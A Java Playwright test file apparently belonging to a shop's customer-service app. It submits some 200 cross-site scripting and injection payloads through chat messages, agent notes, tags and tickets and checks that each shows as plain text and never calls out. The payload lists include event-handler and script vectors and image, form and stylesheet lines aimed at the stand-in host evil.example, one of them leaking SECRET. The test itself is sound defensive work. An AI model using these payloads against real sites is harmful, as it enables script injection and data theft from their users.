package io.xiangyin.server;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/** Attack cases 16 and 17: what shoppers and colleagues write is shown as words, and nothing of it runs or calls out. */
class InjectionPageTest extends PageTest {
    private static final List<String> PAYLOADS = List.of(
            "<script>window.hit=1</script>",
            "<img src=x onerror=window.hit=1>",
            "<img src='https://evil.example/a.png'>",
            "<svg onload=window.hit=1>",
            "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
            "<iframe src=javascript:parent.hit=1></iframe>",
            "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
            "<a href=javascript:window.hit=1>点我</a>",
            "[点我](javascript:window.hit=1)",
            "![x](https://evil.example/?d=SECRET)",
            "<object data=https://evil.example></object>",
            "<embed src=https://evil.example>",
            "<link rel=stylesheet href=https://evil.example/a.css>",
            "<style>@import 'https://evil.example/b.css'</style>",
            "<meta http-equiv=refresh content='0;url=https://evil.example'>",
            "<base href=https://evil.example/>",
            "<form action=https://evil.example><input name=a></form>",
            "<body onload=window.hit=1>",
            "<details open ontoggle=window.hit=1>",
            "<video><source onerror=window.hit=1>",
            "<math><mi xlink:href='javascript:window.hit=1'>x",
            "\"><script>window.hit=1</script>",
            "'-window.hit=1-'",
            "${window.hit=1}",
            "{{constructor.constructor('window.hit=1')()}}",
            "javascript:window.hit=1",
            "data:text/html,<script>window.hit=1</script>",
            "&lt;script&gt;window.hit=1&lt;/script&gt;",
            "\u202Etxt.exe\u202C",
            "<x onclick=window.hit=1 contenteditable>点</x>");

    /** Every element that can carry a handler, with every handler that runs by itself. */
    private static final List<String> CROSSED = Stream.of(
                    "img src=x",
                    "svg",
                    "body",
                    "video src=x",
                    "audio src=x",
                    "iframe",
                    "input autofocus",
                    "marquee",
                    "details open",
                    "object data=x",
                    "select autofocus",
                    "textarea autofocus",
                    "p",
                    "style")
            .flatMap(tag -> Stream.of(
                            "onerror",
                            "onload",
                            "onfocus",
                            "onstart",
                            "ontoggle",
                            "onpageshow",
                            "onanimationstart",
                            "onpointerenter",
                            "onmouseover",
                            "onbegin",
                            "onwheel",
                            "onscroll",
                            "oncut")
                    .map(handler -> "<" + tag + " " + handler + "=window.hit=1>"))
            .toList();

    private final List<String> foreign = new CopyOnWriteArrayList<>();

    private Page watched(String path) {
        Page page = browser.page(1280, 800, errors);
        page.onRequest(request -> {
            if (request.url().contains("evil.example")) {
                foreign.add(request.url());
            }
        });
        page.onDialog(dialog -> {
            foreign.add("dialog " + dialog.message());
            dialog.dismiss();
        });
        page.navigate(shop.url(path));
        return page;
    }

    private void unharmed(Page page) {
        assertThat(page.evaluate("window.hit")).isNull();
        assertThat(foreign).isEmpty();
    }

    @Test
    void cases_16_and_17_words_stay_words_in_the_widget_and_in_the_workbench() {
        JsonObject customer = new JsonObject().put("name", "<img src=x onerror=window.hit=1>");
        JsonObject begun = shop.post(
                        "/api/v1/conversations",
                        new JsonObject().put("channel", "web").put("customer", customer),
                        null)
                .json();
        DemoShop.Talk talk = new DemoShop.Talk(begun.getString("conversationId"), begun.getString("token"));
        String base = "/api/v1/conversations/" + talk.id();
        shop.send("POST", base + "/handoff", null, talk.token());
        String agent = shop.signIn("xiaolin");
        shop.post(base + "/accept", new JsonObject(), agent);
        for (int i = 0; i < PAYLOADS.size(); i++) {
            String payload = PAYLOADS.get(i);
            JsonObject words = new JsonObject().put("clientMessageId", "m" + i).put("text", payload);
            shop.post(base + "/messages", words, talk.token());
            shop.post(base + "/agent-messages", words, agent);
            shop.post(base + "/notes", new JsonObject().put("text", payload), agent);
        }
        for (int i = 0; i < CROSSED.size(); i++) {
            JsonObject words = new JsonObject().put("clientMessageId", "c" + i).put("text", CROSSED.get(i));
            shop.post(base + "/messages", words, talk.token());
        }
        assertThat(PAYLOADS.size() + CROSSED.size()).isGreaterThanOrEqualTo(200);
        JsonArray tags = new JsonArray().add("<img src=x onerror=1>");
        shop.send("PUT", base + "/tags", new JsonObject().put("tags", tags).encode(), agent);
        JsonObject ticket = new JsonObject()
                .put("kind", "quality")
                .put("subject", "<img src=x onerror=window.hit=1>")
                .put("conversationId", talk.id());
        shop.post("/api/v1/tickets", ticket, agent);

        Page desk = watched("/agent");
        signIn(desk, shop, "xiaolin");
        desk.getByTestId("mine-item").first().click();
        assertThat(desk.getByText("<svg onload=window.hit=1>").first()).isVisible();
        assertThat(desk.getByTestId("card")).containsText("<img src=x onerror=window.hit=1>");
        unharmed(desk);

        Page tickets = watched("/tickets");
        signIn(tickets, shop, "xiaolin");
        assertThat(tickets.getByTestId("ticket-row").first()).containsText("<img src=x");
        unharmed(tickets);

        Page chat = watched("/chat/?name=" + "%3Cimg%20src%3Dx%20onerror%3Dwindow.hit%3D1%3E");
        assertThat(chat.getByTestId("bubble-bot").first()).isVisible();
        for (String payload : PAYLOADS.subList(0, 8)) {
            say(chat, payload);
        }
        assertThat(chat.getByText("<script>window.hit=1</script>").first()).isVisible();
        unharmed(chat);
    }
}
